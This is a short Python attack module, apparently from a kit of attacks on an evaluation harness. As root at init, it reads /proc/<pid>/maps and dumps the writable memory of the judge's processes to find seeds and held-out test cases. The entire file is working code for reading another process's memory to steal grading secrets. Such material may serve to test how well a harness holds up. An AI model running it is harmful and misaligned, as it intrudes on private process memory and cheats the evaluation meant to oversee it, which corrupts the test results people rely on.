"""Scans the memory of the judge's processes through /proc: seeds and held-out cases are there."""

from kit import FACTS, any_works, is_secret

WHEN = "init"
ROOT = True


def search(pid: int) -> bool:
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            span, rights, *_ = line.split()
            start, end = (int(address, 16) for address in span.split("-"))
            if rights.startswith("rw") and "[v" not in line:
                memory.seek(start)
                if is_secret(memory.read(end - start)):
                    return True
    return False


def attack() -> bool:
    return any_works(*[lambda pid=pid: search(pid) for pid in FACTS["processes"]])
